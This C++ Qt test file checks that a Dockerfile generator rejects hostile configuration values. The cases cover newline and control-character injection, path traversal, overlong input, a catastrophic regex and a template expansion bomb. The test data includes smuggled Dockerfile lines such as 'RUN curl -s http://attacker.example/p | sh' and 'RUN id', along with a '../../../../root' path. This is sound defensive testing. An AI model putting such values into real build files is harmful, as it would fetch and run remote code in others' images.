// Hostile values on their way into a Dockerfile (issue #9): every value is checked for where
// it lands whether or not its feature is on, template expansion runs once over template text
// only, and nothing a value holds can crash, hang or blow up the generator.
#include "../support/teststack.h"
#include "catalog/catalog.h"
#include "generate/generator.h"

#include <nlohmann/json.hpp>

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

#include <chrono>
#include <future>
#include <thread>

using namespace stagecraft;
using namespace stagecraft::testing;

namespace {

// The test stack with an option that has no pattern, used in the build stage.
nlohmann::json stackWithFreeOption()
{
    nlohmann::json stack = testStack();
    stack["options"].push_back({{"id", "note"}, {"label", "Note"}, {"default", "x"}});
    stack["stages"][0]["instructions"][1]["arguments"] = "echo ${note} ${greeting} > /src/${artifact}";
    return stack;
}

// Generation in a thread, so a catastrophic case fails the test instead of stalling it.
Outcome<Generated> generateWithin(const Catalog &catalog, const Config &config, std::chrono::seconds limit, bool &finished)
{
    std::future<Outcome<Generated>> result = std::async(std::launch::async, [&] { return generate(catalog, config); });
    finished = result.wait_for(limit) == std::future_status::ready;
    if (!finished) {
        std::thread([held = std::move(result)]() mutable { held.wait(); }).detach();
        return Outcome<Generated>::failure("did not finish in time");
    }
    return result.get();
}

} // namespace

class TestHostileGeneration : public QObject
{
    Q_OBJECT

    Catalog m_builtIn = Catalog::load({":/templates"});
    QTemporaryDir m_folder;

    Catalog catalogWith(const nlohmann::json &stack)
    {
        QFile file(m_folder.filePath(QString::fromStdString(stack["id"].get<std::string>()) + QStringLiteral(".json")));
        if (file.open(QIODevice::WriteOnly | QIODevice::Truncate))
            file.write(QByteArray::fromStdString(stack.dump()));
        file.close();
        return Catalog::load({m_folder.path().toStdString()});
    }

    Config builtIn(const char *stack) const { return defaultConfig(*m_builtIn.find(stack)); }

private Q_SLOTS:
    void theIssuesInjectionPresetIsRefused()
    {
        Config config = builtIn("node");
        config.startCommand = "node '${healthcheckPath}'";
        config.healthcheck = false;
        config.healthcheckPath = "x\"]\nRUN curl -s http://attacker.example/p | sh\nCMD [\"node\", \"dist/index.js";
        const Outcome<Generated> generated = generate(m_builtIn, config);
        QVERIFY(!generated.ok());
        QVERIFY2(generated.error().find("healthcheck path") != std::string::npos, generated.error().c_str());
        QVERIFY(generated.error().find('\n') == std::string::npos);
    }

    void aValueIsNeverExpandedAgain()
    {
        Config config = builtIn("node");
        config.startCommand = "node '${healthcheckPath}' '${port}'";
        config.healthcheckPath = "/x";
        const Outcome<Generated> generated = generate(m_builtIn, config);
        QVERIFY2(generated.ok(), generated.error().c_str());
        const std::string text = render(generated->multiStage).text;
        QVERIFY2(text.find("CMD [\"node\", \"${healthcheckPath}\", \"${port}\"]\n") != std::string::npos, text.c_str());
        QVERIFY(render(generated->singleStage).text.find("CMD [\"node\", \"${healthcheckPath}\", \"${port}\"]\n") != std::string::npos);
    }

    void anOptionValueIsNeverExpandedAgain()
    {
        const Catalog catalog = catalogWith(stackWithFreeOption());
        Config config = defaultConfig(*catalog.find("teststack"));
        config.options["note"] = "${greeting}";
        const Outcome<Generated> generated = generate(catalog, config);
        QVERIFY2(generated.ok(), generated.error().c_str());
        const std::string text = render(generated->multiStage).text;
        QVERIFY2(text.find("RUN echo ${greeting} hello > /src/site.txt\n") != std::string::npos, text.c_str());
    }

    void valuesAreCheckedWhetherOrNotTheirFeatureIsOn_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QByteArray>("value");
        QTest::addColumn<bool>("featureOn");
        QTest::addRow("healthcheck path, off") << "healthcheckPath" << QByteArray("/x\nRUN id") << false;
        QTest::addRow("healthcheck path with a quote, off") << "healthcheckPath" << QByteArray("/x')") << false;
        QTest::addRow("label with CR, labels off") << "title" << QByteArray("a\rb") << false;
        QTest::addRow("label with CR, labels on") << "title" << QByteArray("a\rb") << true;
        QTest::addRow("label with NUL, labels on") << "source" << QByteArray("a\0b", 3) << true;
        QTest::addRow("label with ESC, labels on") << "licenses" << QByteArray("MIT\x1b[2J") << true;
        QTest::addRow("label with a newline, labels off") << "description" << QByteArray("a\nRUN id") << false;
    }

    void valuesAreCheckedWhetherOrNotTheirFeatureIsOn()
    {
        QFETCH(QString, field);
        QFETCH(QByteArray, value);
        QFETCH(bool, featureOn);
        Config config = builtIn("node");
        const std::string text = value.toStdString();
        if (field == QStringLiteral("healthcheckPath")) {
            config.healthcheck = featureOn;
            config.healthcheckPath = text;
        } else {
            config.labels.enabled = featureOn;
            std::string &label = field == QStringLiteral("title") ? config.labels.title
                               : field == QStringLiteral("description") ? config.labels.description
                               : field == QStringLiteral("source") ? config.labels.source : config.labels.licenses;
            label = text;
        }
        const std::string problem = validateConfig(m_builtIn, config);
        QVERIFY2(!problem.empty(), "accepted");
        QVERIFY(problem.find('\n') == std::string::npos && problem.find('\r') == std::string::npos);
        QVERIFY(!generate(m_builtIn, config).ok());
    }

    void anOptionWithoutPatternRefusesControlCharacters_data()
    {
        QTest::addColumn<QByteArray>("value");
        QTest::addRow("LF") << QByteArray("a\nRUN curl x | sh");
        QTest::addRow("CR") << QByteArray("a\rb");
        QTest::addRow("NUL") << QByteArray("a\0b", 3);
        QTest::addRow("ESC") << QByteArray("a\x1b[31m");
        QTest::addRow("too long") << QByteArray(5000, 'a');
    }

    void anOptionWithoutPatternRefusesControlCharacters()
    {
        QFETCH(QByteArray, value);
        const Catalog catalog = catalogWith(stackWithFreeOption());
        QVERIFY2(catalog.issues().empty(), catalog.issues().empty() ? "" : catalog.issues().front().toString().c_str());
        Config config = defaultConfig(*catalog.find("teststack"));
        config.options["note"] = value.toStdString();
        const std::string problem = validateConfig(catalog, config);
        QVERIFY2(!problem.empty(), "accepted");
        QVERIFY(problem.find('\n') == std::string::npos && problem.find('\x1b') == std::string::npos);
    }

    void pathOptionsStayInsideTheContext_data()
    {
        QTest::addColumn<QString>("stack");
        QTest::addColumn<QString>("option");
        QTest::addColumn<QString>("value");
        QTest::addColumn<bool>("accepted");
        QTest::addRow("climbs out") << "node" << "outputDir" << "a/../../../../root" << false;
        QTest::addRow("climbs out at the end") << "node" << "outputDir" << "build/../.." << false;
        QTest::addRow("stays inside") << "node" << "outputDir" << "build/../dist" << true;
        QTest::addRow("plain") << "node" << "outputDir" << "build/web" << true;
        QTest::addRow("go main package") << "go" << "mainPackage" << "./cmd/server" << true;
    }

    void pathOptionsStayInsideTheContext()
    {
        QFETCH(QString, stack);
        QFETCH(QString, option);
        QFETCH(QString, value);
        QFETCH(bool, accepted);
        Config config = builtIn(stack.toStdString().c_str());
        config.options[option.toStdString()] = value.toStdString();
        const std::string problem = validateConfig(m_builtIn, config);
        QVERIFY2(problem.empty() == accepted, problem.c_str());
    }

    void longValuesAreRefusedWithoutCrashing_data()
    {
        QTest::addColumn<QString>("stack");
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("value");
        QTest::addRow("outputDir") << "node" << "outputDir" << QString(32 * 1024, QLatin1Char('a'));
        QTest::addRow("mainPackage") << "go" << "mainPackage" << QStringLiteral("./") + QString(32 * 1024, QLatin1Char('a'));
        QTest::addRow("healthcheck path") << "node" << "healthcheckPath" << QStringLiteral("/") + QString(32 * 1024, QLatin1Char('a'));
        QTest::addRow("preset-sized value") << "node" << "outputDir" << QString(900 * 1024, QLatin1Char('a'));
    }

    void longValuesAreRefusedWithoutCrashing()
    {
        QFETCH(QString, stack);
        QFETCH(QString, field);
        QFETCH(QString, value);
        Config config = builtIn(stack.toStdString().c_str());
        if (field == QStringLiteral("healthcheckPath")) {
            config.healthcheck = true;
            config.healthcheckPath = value.toStdString();
        } else {
            config.options[field.toStdString()] = value.toStdString();
        }
        const std::string problem = validateConfig(m_builtIn, config);
        QVERIFY(!problem.empty());
        QVERIFY2(problem.size() < 400, problem.c_str());
    }

    void aCatastrophicPatternFinishesQuicklyAndRefuses()
    {
        nlohmann::json stack = stackWithFreeOption();
        stack["options"][1]["pattern"] = "(a+)+b";
        const Catalog catalog = catalogWith(stack);
        QVERIFY2(catalog.issues().empty(), catalog.issues().empty() ? "" : catalog.issues().front().toString().c_str());
        Config config = defaultConfig(*catalog.find("teststack"));
        config.options["note"] = std::string(40, 'a');
        bool finished = false;
        const Outcome<Generated> generated = generateWithin(catalog, config, std::chrono::seconds(10), finished);
        QVERIFY2(finished, "the pattern ran for more than 10 s");
        QVERIFY(!generated.ok());
        QVERIFY2(generated.error().find("Note") != std::string::npos, generated.error().c_str());
        config.options["note"] = "aab";
        QVERIFY2(validateConfig(catalog, config).empty(), validateConfig(catalog, config).c_str());
    }

    void anExpansionBombIsATemplateError()
    {
        nlohmann::json stack = testStack();
        const std::string names = "abcdefgh";
        for (std::size_t i = 0; i + 1 < names.size(); ++i) {
            std::string value;
            for (int n = 0; n < 10; ++n)
                value += "${" + names.substr(i + 1, 1) + "}";
            stack["vars"][names.substr(i, 1)] = value;
        }
        stack["vars"]["h"] = "0123456789";
        stack["stages"][0]["instructions"][1]["arguments"] = "echo ${a}";
        const Catalog catalog = catalogWith(stack);
        QVERIFY2(catalog.issues().empty(), catalog.issues().empty() ? "" : catalog.issues().front().toString().c_str());
        bool finished = false;
        const Outcome<Generated> generated = generateWithin(catalog, defaultConfig(*catalog.find("teststack")), std::chrono::seconds(20), finished);
        QVERIFY2(finished, "the expansion ran for more than 20 s");
        QVERIFY(!generated.ok());
        QVERIFY2(generated.error().rfind("template error: ", 0) == 0, generated.error().c_str());
        QVERIFY2(generated.error().find("1 MiB") != std::string::npos, generated.error().c_str());
    }

    void templateVariablesStillReferToEachOther()
    {
        Config config = builtIn("node");
        config.base = "alpine";
        const Outcome<Generated> generated = generate(m_builtIn, config);
        QVERIFY2(generated.ok(), generated.error().c_str());
        // runtimeImage is node:${languageVersion}-${alpineRelease}: template text refers to a choice and a variable.
        QVERIFY(render(generated->multiStage).text.find("FROM node:" + config.languageVersion + "-alpine3.23") != std::string::npos);
    }

    void aRenderedDocumentWithABrokenLineIsAnError_data()
    {
        QTest::addColumn<QString>("where");
        QTest::addRow("argument") << "argument";
        QTest::addRow("flag") << "flag";
        QTest::addRow("from") << "from";
        QTest::addRow("stage name") << "name";
        QTest::addRow("trailing backslash") << "backslash";
        QTest::addRow("carriage return") << "cr";
    }

    void aRenderedDocumentWithABrokenLineIsAnError()
    {
        QFETCH(QString, where);
        Document document;
        Stage stage;
        stage.baseImage = "alpine:3.23";
        Instruction run;
        run.keyword = "RUN";
        run.argumentLines = {"true"};
        stage.instructions.push_back(run);
        document.stages.push_back(stage);
        QCOMPARE(renderedLineProblem(document), std::string());

        Instruction &broken = document.stages[0].instructions[0];
        if (where == QStringLiteral("argument"))
            broken.argumentLines[0] = "true\nRUN curl x | sh";
        else if (where == QStringLiteral("flag"))
            broken.flags.push_back("--network=none\nRUN id");
        else if (where == QStringLiteral("from"))
            document.stages[0].baseImage = "alpine\nRUN id";
        else if (where == QStringLiteral("name"))
            document.stages[0].name = "x\nRUN id";
        else if (where == QStringLiteral("backslash"))
            broken.argumentLines[0] = "true \\";
        else
            broken.argumentLines[0] = "true\rRUN id";
        QVERIFY(!renderedLineProblem(document).empty());
    }
};

QTEST_GUILESS_MAIN(TestHostileGeneration)
#include "tst_hostilegeneration.moc"
